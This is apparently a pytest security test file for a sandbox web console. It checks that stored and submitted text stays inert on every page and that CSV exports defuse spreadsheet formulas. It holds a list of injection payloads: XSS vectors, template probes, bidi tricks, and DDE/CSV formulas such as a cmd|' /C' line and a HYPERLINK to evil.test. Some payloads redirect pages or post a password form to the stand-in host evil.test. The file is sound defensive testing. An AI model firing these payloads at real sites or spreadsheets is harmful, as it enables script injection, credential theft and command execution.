"""Hostile text on every page: whatever a resource, a check, an entry of the log or a form holds stays text.

Every page is parsed as a browser parses it, and no element and no attribute may come from what was stored.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from dataclasses import replace
from typing import Any
from urllib.parse import quote

import httpx
import pytest
from lxml import html

from sandbox.console.pages import PAGES
from sandbox.console.views.resources import harmless
from sandbox.control.kinds import KINDS
from sandbox.core.resource import Entry
from tests.attack.doors import Line, Lines, code_of, lines_over, one_of_each, path_of
from tests.plugins.console import PASSWORD, consoles_of
from tests.plugins.space import Scene

PAYLOADS = (
    "<xss-tag>hurt</xss-tag><script>xssrun()</script>",
    '"><img src=x onerror=xssrun() xss-made="1">',
    "'><svg/onload=xssrun() xss-made=1>",
    "</textarea><xss-tag></textarea>",
    "</title></style></script><xss-tag>",
    '" autofocus onfocus="xssrun()" xss-made="1',
    "' onmouseover='xssrun()' xss-made='1",
    "javascript:xssrun()//hurt",
    "hurt{{7*1191}}${7*1191}#{7*1191}<%=7*1191%>{%raw%}",
    "hurt\u202egnp.\u2066\u200b\u200fexe\u2028line",
    "<!--><xss-tag>-->",
    "<a href=javascript:xssrun() xss-made>hurt</a>",
    "]]><xss-tag xmlns='http://www.w3.org/1999/xhtml'/>",
    "&lt;xss-tag&gt;&#60;xss-tag&#62;&quot;",
    "<base href=//evil.test/><meta http-equiv=refresh content=0;url=//evil.test>",
    "<form action=//evil.test><input name=password>hurt",
    "=HYPERLINK(\"//evil.test\",\"hurt\")",
    "\uff1dcmd|' /C hurt'!A0",
    "@SUM(1)*hurt",
    "-2+3+cmd|hurt",
)  # fmt: skip
BIDI = re.compile("[\u202a-\u202e\u2066-\u2069]")
# what looks like a name, a moment, a hash or a version holds the scene together and stays
HOLDS = re.compile(r"[A-Za-z0-9_./:+-]*\Z")
FREE = {
    "title",
    "title_zh",
    "title_en",
    "name_zh",
    "name_en",
    "note",
    "reason",
    "purpose",
    "breach",
    "description",
}
TEXT_TAGS = {"bdi", "dt", "pre", "textarea", "title", "option", "input"}  # the direction within ends there
OUR_ATTRIBUTES = re.compile(r"(?!on|style$|srcdoc$|formaction$)[a-z-]+\Z")


def poisoned(value: Any, turn: Iterator[int], key: str = "") -> Any:
    """``value`` with a payload in every free text, and beside every key of a mapping of free text."""
    if isinstance(value, dict):
        return {name: poisoned(inner, turn, name) for name, inner in value.items()}
    if isinstance(value, list | tuple):
        return [poisoned(inner, turn, key) for inner in value]
    if isinstance(value, str) and (key in FREE or not HOLDS.match(value)):
        return PAYLOADS[next(turn) % len(PAYLOADS)]
    return value


def turns() -> Iterator[int]:
    number = 0
    while True:
        yield number
        number += 1


def hostile_check(scene: Scene, turn: Iterator[int]) -> dict[str, Any]:
    """A check's result as a container that somebody took over might report it."""

    def text() -> str:
        return PAYLOADS[next(turn) % len(PAYLOADS)]

    points = [*scene.control.policy.get("review.points"), "99.9"]
    found = [
        {
            **{"rule": rule, "point": point, "severity": severity},
            **{name: text() for name in ("path", "where", "hint", "message_zh", "message_en")},
            "evidence": {text(): text(), "n": text()},
        }
        for point in points
        for rule, severity in (("SMALL_CELL", "hard"), ("HOSTILE_RULE", "flag"))
    ]
    rules = [{"rule": text(), "point": text(), "result": text(), "thresholds": [text()]}]
    rules += [
        {"rule": "SMALL_CELL", "point": "26.4", "result": text(), "thresholds": [PAYLOADS[0], "egress.k"]}
    ]
    return {
        **{"verdict": "reject", "findings": found, "rules": rules, "files": [{"path": text()}]},
        **{"checker": text(), "error": text(), "isolation": {text(): text()}},
        "canonical": [{"path": text() + ".csv", "sha256": "0" * 64, "bytes": 1}],
    }


@pytest.fixture
def lines(scene: Scene) -> Iterator[Lines]:
    with lines_over(consoles_of(scene)) as made:
        yield made


def poison(scene: Scene) -> dict[str, str]:
    """One of each kind, every free text of it a payload, and the log full of them."""
    ids, turn = one_of_each(scene), turns()
    with scene.store.write() as writer:
        for name in KINDS:
            for one in writer.find(name):
                status = poisoned(one.status, turn)
                if one.kind == "egress-request":
                    status["check"] = {**one.status["check"], **hostile_check(scene, turn)}
                    given = {"which": "security", "verdict": "pass", "by": "x", "person": "x", "points": {}}
                    status["verdicts"] = [{**given, "note": PAYLOADS[0], "at": scene.clock().isoformat()}]
                spec = poisoned(one.spec, turn)
                entry = Entry(scene.clock(), PAYLOADS[0], PAYLOADS[1], PAYLOADS[5], PAYLOADS[2], one.ref)
                told = replace(entry, reason=PAYLOADS[3], details={PAYLOADS[4]: [PAYLOADS[1]]})
                writer.put(replace(one, spec=spec, status=status), told, expected=one.version)
        for payload in PAYLOADS:
            entry = Entry(scene.clock(), payload, payload, payload, payload, payload, outcome="refused")
            writer.note(
                replace(entry, reason=payload, before=payload, after=payload, details={payload: payload})
            )
    return ids


def innocent(answer: httpx.Response) -> str:
    """No element, no attribute and no address of the page comes from a payload; its text, to be searched."""
    if not answer.headers.get("content-type", "").startswith("text/html"):
        return answer.text
    tree, told = html.fromstring(answer.text), str(answer.url)
    for one in tree.iter():
        if not isinstance(one.tag, str):
            raise AssertionError((told, "a comment or instruction", html.tostring(one)[:200]))
        assert not one.tag.startswith("xss"), told
        assert one.tag not in ("iframe", "object", "embed", "base", "style", "noscript"), told
        for name, value in one.attrib.items():
            assert OUR_ATTRIBUTES.match(name), (told, one.tag, name)
            assert "xss" not in name, (told, one.tag, name)
            if name in ("href", "src", "action", "hx-get", "data-file", "data-chart"):
                assert re.match(r"/console/|/public/[a-z-]+\Z|#", value), (told, name, value)
        assert one.tag != "script" or (one.get("src") and not (one.text or "").strip()), told
        assert one.tag != "meta" or one.get("http-equiv") is None, told
        for text, holder in ((one.text, one), *((child.tail, one) for child in one)):
            if text and BIDI.search(text):
                around = {holder.tag, *(outer.tag for outer in holder.iterancestors())}
                assert around & TEXT_TAGS, (told, holder.tag, text[:80])
    body = str(tree.text_content())
    assert "hurt8337" not in body, told  # 7 * 1191: a template took it for its own
    return answer.text


def every_page(line: Line, ids: dict[str, str]) -> Iterator[httpx.Response]:
    for page in PAGES:
        if page.method == "GET":
            for about in ids if "{kind}" in page.path else ("egress-request",):
                path = path_of(page, ids, about)
                yield line.get(path)
                if page.name == "audit":
                    yield line.get("/audit?start=60")
                    yield line.get("/audit", params={"object": PAYLOADS[1], "start": PAYLOADS[0]})


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_stored_text_stays_text_on_every_page(lang: str, lines: Lines) -> None:
    ids = poison(lines.scene)
    met: dict[str, str] = {}
    others = ("developer", "editor", "operator", "chief", "auditor", "admin", "")
    for who in ("reviewer", *(others if lang == "zh" else ())):
        line = lines(who)
        line.http.cookies.set("lang", lang)
        met[who] = "".join(innocent(answer) for answer in every_page(line, ids))
        with lines.scene.store.read() as reader:
            size = reader.head().size
        if who == "auditor":
            met[who] += "".join(innocent(line.get(f"/audit/{seq}")) for seq in range(size - 25, size))
    for who, text in met.items():
        assert "&lt;xss-tag" in text or who == "admin", who  # payloads were there to be met
    assert all(text in met["reviewer"] for text in ("&lt;!--", "javascript:xssrun()", "hurt{{7*1191}}"))
    assert "\u27e8U+202E\u27e9" in met["reviewer"]  # in findings, what is not seen is spelled out


def test_what_is_sent_comes_back_as_text(lines: Lines) -> None:
    """Queries and forms, refused and shown again."""
    one_of_each(lines.scene)
    admin, reviewer, stranger = lines("admin"), lines("reviewer"), lines("")
    names = {name: f"{name}-zh" for name in ("name_zh", "name_en", "roles", "manifest_keys", "note")}
    for payload in PAYLOADS:
        filled = {"id": payload, **dict.fromkeys(names, payload), payload: payload}
        answers = [
            admin.post("/r/organisation/new", filled),
            admin.post(f"/r/organisation/dev/{quote(payload, safe='')}", {"x": payload}),
            reviewer.post(
                "/r/egress-request/eg-a/return", {"password": payload, "reasons": payload, **filled}
            ),
            reviewer.post(
                "/review/eg-a/verdict",
                {
                    "which": payload,
                    "verdict": payload,
                    "note": payload,
                    f"note.{payload}": payload,
                    "point.26.1": payload,
                },
            ),
            reviewer.get("/review", params={"state": payload, "after": payload}),
            reviewer.get(
                "/r/job", params={"state": payload, "order": payload, "dir": payload, "after": payload}
            ),
            reviewer.get("/audit", params={"object": payload, "start": payload}),
            stranger.post("/sign-in", {"account": payload, "password": payload, "next": payload}),
            stranger.get("/public/catalogue", params={"find": payload}),
            stranger.get("/public/products", params={"find": payload, "after": payload}),
            stranger.get("/sign-in", params={"next": payload}),
        ]
        for answer in answers:
            innocent(answer)
        assert code_of(answers[0])
    assert "&lt;xss-tag&gt;hurt" in answers[0].text + admin.seen[0].text + "".join(
        answer.text for answer in admin.seen + stranger.seen
    )


FORMULAS = (
    "=1",
    "+1",
    "-1",
    "@x",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "\u3000=1",
    "\uff1d1",
    "\uff0b1",
    "\uff0d1",
    "\uff20x",
    "\u200b=1",
)


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_is_taken_for_a_formula(text: str) -> None:
    assert harmless(text).startswith("'")
    assert harmless(f"a{text}") == f"a{text}"


def test_the_exported_list_holds_cells_and_nothing_else(lines: Lines) -> None:
    ids = poison(lines.scene)
    line, seen = lines("reviewer"), 0
    for kind in ids:
        answer = line.get(f"/r/{kind}/export.csv")
        assert answer.headers["content-type"] == "text/csv; charset=utf-8"
        assert answer.headers["content-disposition"] == f'attachment; filename="{kind}.csv"'
        rows = list(csv.reader(io.StringIO(answer.text.removeprefix("\ufeff"), newline="")))
        for row in rows:
            assert len(row) == 7, row
            seen += sum("hurt" in cell for cell in row)
            assert not any(re.match(r"\s*[=+\-@\uff1d\uff0b\uff0d\uff20]", cell) for cell in row), row
        # a spreadsheet that parts cells at semicolons or tabs finds each of ours within its quotes
        assert all(
            line.startswith('"') and line.endswith('"') for line in answer.text[1:].split("\r\n") if line
        )
    assert seen > 3


def test_a_wrong_password_is_in_no_answer(lines: Lines) -> None:
    line = lines("developer")
    for path in ("/sign-in", "/step-up", "/password"):
        answer = line.post(
            path,
            {"account": "developer", "password": "s3cret-typed", "old": PASSWORD + "x", "new": "s3cret-new"},
        )
        assert "s3cret" not in answer.text + str(answer.headers)
        assert PASSWORD not in answer.text
    assert not any("s3cret" in str(entry) for entry in lines.scene.log())
